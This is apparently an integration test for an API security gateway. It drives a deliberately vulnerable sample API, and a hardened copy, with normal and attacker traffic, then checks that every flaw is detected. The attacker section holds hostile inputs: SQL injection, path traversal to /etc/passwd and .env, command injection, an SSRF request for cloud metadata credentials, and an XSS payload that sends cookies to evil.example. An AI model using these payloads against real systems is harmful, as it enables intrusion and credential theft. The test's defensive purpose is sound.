// The sample API behind a gateway as people start it: everything that is wrong with it is found, by its traffic or by an audit with two
// users' credentials, and nothing of the hardened one. The attacker's attempts are told of both: those happened.
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReport } from '../../src/cli/report.ts';
import { startSampleApi } from '../../src/sample-api/server.ts';
import { hasRedis, RedisProcess } from '../stores/redis-process.ts';
import { type RunningGateway, removeFolder, startGateway, temporaryFolder, until } from './gateway-process.ts';

const SHADOWS = [
  'GET /api/admin/export',
  'GET /api/admin/users',
  'GET /api/files',
  'GET /api/ping',
  'GET /api/users',
  'GET /debug/vars',
  'POST /api/fetch',
];

/** What is wrong with the sample API, and all that tells it. */
const FLAWS: Readonly<Record<string, readonly string[]>> = {
  'orders of others can be read': ['audit: broken-object-authorization GET /api/orders/{id}'],
  'people can be read by anybody, with all that is known of them': [
    'audit: forbidden-data GET /api/users/{id}',
    'audit: missing-authentication GET /api/users/{id}',
    'data: forbidden-data-exposure GET /api/users/{id}',
    'posture: cacheable-sensitive-responses GET /api/users/{id}',
    'posture: forbidden-data-types GET /api/users/{id}',
    'posture: missing-authentication GET /api/users/{id}',
    'posture: predictable-ids GET /api/users/{id}',
  ],
  'functions for administrators answer anybody': ['users', 'export'].flatMap((name) => [
    `audit: forbidden-data GET /api/admin/${name}`,
    `audit: missing-authentication GET /api/admin/${name}`,
    `data: forbidden-data-exposure GET /api/admin/${name}`,
    `data: sensitive-data-exposure GET /api/admin/${name}`,
    `posture: cacheable-sensitive-responses GET /api/admin/${name}`,
    `posture: forbidden-data-types GET /api/admin/${name}`,
    `posture: missing-authentication GET /api/admin/${name}`,
  ]),
  'the list of people answers anybody': ['posture: missing-authentication GET /api/users'],
  'functions that nobody wrote down': SHADOWS.flatMap((place) => [
    `drift: shadow ${place}`,
    `posture: shadow-api ${place}`,
  ]),
  'variables of the process are shown': [
    'audit: debug-endpoint GET /debug/vars',
    'posture: debug-endpoint GET /debug/vars',
  ],
  'text is put into SQL, and errors tell of it': [
    'audit: statement-injection GET /api/products',
    'audit: statement-injection GET /api/products/{id}',
    'audit: verbose-errors GET /api/products/{id}',
    'data: error-disclosure GET /api/products/{id}',
    'posture: verbose-errors GET /api/products/{id}',
  ],
  'paths lead out of the folder of files': [
    'attack: web-shell-response GET /api/files',
    'data: forbidden-data-exposure GET /api/files',
    'posture: forbidden-data-types GET /api/files',
  ],
  'text is put into a command line': ['attack: web-shell-response GET /api/ping'],
  'any address is fetched': ['data: forbidden-data-exposure POST /api/fetch'],
  'fields of orders that only the shop sets can be sent': ['data: schema-violation POST /api/orders'],
  'passwords can be tried without end': ['audit: missing-rate-limit POST /api/login'],
  'GraphQL has no bounds and shows its schema': ['aliases', 'batching', 'depth', 'introspection'].map(
    (what) => `audit: graphql-${what} POST /graphql`,
  ),
  'comments are written into a page as they are': ['audit: markup-injection GET /api/comments'],
  'a WebSocket opens for anybody': ['audit: open-websocket GET /ws'],
  'any site may read with the credentials of its visitors': ['audit: permissive-cors /', 'posture: permissive-cors *'],
  'headers of security are missing': ['audit: missing-security-headers /', 'posture: missing-security-headers *'],
};
/** What the attacker tried, of either. */
const TRIED = ['attack: vulnerability-scanning *', 'data: schema-violation GET /api/products/{id}'];
/** Tried as well, of the hardened one: refused by what its document says. */
const REFUSED = ['GET /api/files', 'GET /api/ping', 'POST /api/orders'].map(
  (place) => `data: schema-violation ${place}`,
);

/** All of it but times and what counts since the gateway started. */
const PARTS_OF_REPORT = /<(ul|table) class="(?:figures|incidents|actors|map|posture|endpoints)[\s\S]*?<\/\1>/g;
const ROUNDS = 8;
const JSON_TYPE = { 'content-type': 'application/json' };

describe.each([false, true])('the sample API (hardened: %s) behind a gateway', (isHardened) => {
  let api: Awaited<ReturnType<typeof startSampleApi>>;
  let gateway: RunningGateway;
  let redis: RedisProcess | undefined;
  const data = temporaryFolder();
  let asked = 0;
  const ask = async (path: string, init: RequestInit = {}): Promise<string> => {
    asked += 1;
    return (await fetch(`${gateway.url}${path}`, init)).text();
  };
  const post = (path: string, body: object, headers: Record<string, string> = {}): Promise<string> =>
    ask(path, { method: 'POST', headers: { ...JSON_TYPE, ...headers }, body: JSON.stringify(body) });
  const logIn = async (name: string): Promise<Record<string, string>> => {
    const answer = await post('/api/login', { email: `${name}@example.com`, password: `${name}-password` });
    return { authorization: `Bearer ${(JSON.parse(answer) as { token: string }).token}` };
  };

  beforeAll(async () => {
    api = await startSampleApi({ host: '127.0.0.1', port: 0, isHardened });
    // What was found survives in either store.
    if (!isHardened && (hasRedis || process.env.CI !== undefined)) redis = await RedisProcess.start();
    const store =
      redis === undefined ? '{ kind: embedded }' : `{ kind: redis, url: "redis://127.0.0.1:${redis.port}" }`;
    writeFileSync(join(data, 'openapi.json'), await (await fetch(`${api.url}/openapi.json`)).text());
    writeFileSync(
      join(data, 'sallyport.yaml'),
      `mode: monitor
upstreams: { default: "${api.url}" }
routes: [{ id: shop, path: /, upstream: default, openapi: openapi.json }]
store: ${store}
`,
    );
    gateway = await startGateway(['--config', join(data, 'sallyport.yaml'), '--workers', '1'], data);
  });
  afterAll(async () => {
    await gateway.stop('SIGKILL');
    await api.close();
    await redis?.remove();
    removeFolder(data);
  });

  it('has all its flaws found', async () => {
    const ann = await logIn('ann');
    const bob = await logIn('bob');
    const own = JSON.parse(await ask('/api/orders', { headers: ann })) as { id: number }[];
    for (let i = 0; i < ROUNDS; i++) {
      for (const path of [`/api/users/${i + 1}`, '/api/users', '/api/admin/users', '/api/admin/export', '/debug/vars'])
        await ask(path);
      for (const path of ['/api/orders', '/api/products', '/api/users/1', '/healthz', '/api/comments'])
        await ask(path, { headers: ann });
      for (const { id } of own.slice(0, 2)) await ask(`/api/orders/${id}`, { headers: ann });
      await ask('/api/products', { headers: { origin: `https://shop${i}.site${i}.example${i}` } });
      await ask(`/api/products/${i + 1}`);
      await ask(`/api/products?search=lamp${i}`);
      await post('/api/comments', { text: `number ${i} is nice` }, ann);
      await ask('/api/files?name=terms.txt');
      await ask('/api/ping?host=partner.example');
      await post('/api/fetch', { url: 'https://partner.example/a.png' });
      await post('/api/orders', { productId: i + 1 }, ann);
      await post('/graphql', { query: '{ user(id: 1) { name } }' }, ann);
    }
    // An attacker, at every door there is.
    for (const path of [
      "/api/products/'",
      `/api/products?search=${encodeURIComponent("' UNION SELECT email, secret, 1 FROM accounts--")}`,
      '/api/files?name=../../../etc/passwd',
      '/api/files?name=../.env',
      `/api/ping?host=${encodeURIComponent('x;id')}`,
    ])
      for (let i = 0; i < 3; i++) await ask(path, { headers: bob });
    await post('/api/fetch', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/shop' }, bob);
    await post('/api/orders', { productId: 1, total: 0.01, status: 'paid' }, bob);
    await post('/api/comments', { text: '<script>fetch("//evil.example/?"+document.cookie)</script>' }, bob);
    for (let i = 0; i < 3; i++) await ask('/api/comments', { headers: bob });

    const items = async <T>(path: string): Promise<{ readonly total: number; readonly items: readonly T[] }> =>
      (await (await gateway.api(path)).json()) as { total: number; items: T[] };
    await until(async () => (await items('/transactions?limit=1')).total >= asked);
    await until(async () => (await items('/drift')).total >= (isHardened ? 0 : SHADOWS.length));
    const { items: incidents } = await items<{ module: string; detection: string; endpoint: string }>(
      '/incidents?limit=500',
    );
    const { items: endpoints } = await items<{ id: string; drift: { kind: string }[] }>('/endpoints?limit=500');
    const audited = await audit(gateway, ann.authorization!, bob.authorization!);
    const placeOf = (place: string): string => place.replace(/localhost(?::\d+)?\/?/, '/');
    const found = [
      ...incidents.map(({ module, detection, endpoint }) => `${module}: ${detection} ${placeOf(endpoint)}`),
      ...endpoints.flatMap(({ id, drift }) => drift.map(({ kind }) => `drift: ${kind} ${placeOf(id)}`)),
      ...audited.map(({ id, place }) => `audit: ${id} ${placeOf(place)}`),
    ].sort();
    const told = isHardened ? [...TRIED, ...REFUSED] : [...TRIED, ...Object.values(FLAWS).flat()];
    expect(found).toEqual(told.sort());
  });

  it('is in a report of the period in two languages, after a restart as before', async () => {
    const file = join(data, 'report.html');
    const report = async (): Promise<string[][]> => {
      const both: string[][] = [];
      for (const lang of ['en', 'ko']) {
        expect(await runReport({ since: '7d', out: file, admin: gateway.admin, lang, token: gateway.token })).toBe(0);
        both.push(readFileSync(file, 'utf8').match(PARTS_OF_REPORT) ?? []);
      }
      return both;
    };
    let before = await report();
    // What the audit did is taken in when two of them are alike.
    await until(async () => {
      const last = before;
      before = await report();
      return isDeepStrictEqual(before, last);
    });
    const kinds = before[0]!.map((part) => /class="(\w+)/.exec(part)![1]);
    const flawed = ['figures', 'incidents', 'actors', 'map', 'posture', 'endpoints'];
    expect(kinds).toEqual(isHardened ? flawed.filter((kind) => kind !== 'map' && kind !== 'posture') : flawed);
    expect(before[1]).not.toEqual(before[0]);
    await gateway.stop();
    gateway = await startGateway(['--config', join(data, 'sallyport.yaml'), '--workers', '1'], data);
    expect(await report()).toEqual(before);
  });
});

async function audit(
  gateway: RunningGateway,
  first: string,
  second: string,
): Promise<readonly { readonly id: string; readonly place: string }[]> {
  const users = ['--user-a', `Authorization: ${first}`, '--user-b', `Authorization: ${second}`];
  const args = ['audit', gateway.url, '--admin', gateway.admin, ...users, '--active', '--rate', '1000'];
  return JSON.parse(await sallyport(gateway, [...args, '--format', 'json'])).findings;
}

function sallyport(gateway: RunningGateway, args: readonly string[]): Promise<string> {
  const child = spawn(process.execPath, [resolve(import.meta.dirname, '../../dist/main.js'), ...args], {
    env: { ...process.env, SALLYPORT_ADMIN_TOKEN: gateway.token },
  });
  let out = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  return new Promise((done) => child.once('close', () => done(out)));
}
